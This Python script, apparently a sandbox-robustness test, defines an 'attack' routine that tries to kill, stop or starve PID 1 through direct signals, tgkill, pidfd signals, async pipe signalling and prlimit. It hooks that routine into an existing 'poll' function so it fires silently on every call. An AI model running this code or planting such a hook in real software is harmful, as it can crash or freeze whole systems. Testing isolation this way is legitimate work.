import ctypes
import platform

libc = ctypes.CDLL(None, use_errno=True)
X86 = platform.machine() == "x86_64"

import fcntl
import os
import resource
import signal


def tries(does):
    try:
        does()
    except OSError:
        pass


def attack():
    for number in (signal.SIGKILL, signal.SIGSTOP, signal.SIGSEGV, signal.SIGTERM, signal.SIGINT):
        read_end, write_end = os.pipe()
        tries(lambda: fcntl.fcntl(read_end, fcntl.F_SETOWN, 1))
        tries(lambda: fcntl.fcntl(read_end, 10, int(number)))  # F_SETSIG
        tries(lambda: fcntl.fcntl(read_end, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK))
        tries(lambda: os.write(write_end, b"x"))
        os.close(read_end)
        os.close(write_end)
        tries(lambda: os.kill(1, number))
        tries(lambda: libc.tgkill(1, 1, int(number)))
        tries(lambda: signal.pidfd_send_signal(os.pidfd_open(1), number))
    for kind in (resource.RLIMIT_CPU, resource.RLIMIT_NOFILE, resource.RLIMIT_AS, resource.RLIMIT_NPROC):
        tries(lambda: resource.prlimit(1, kind, (1, 1)))
    print("TRIED")


_poll = poll


def poll(*args, **kwargs):
    attack()
    return _poll(*args, **kwargs)
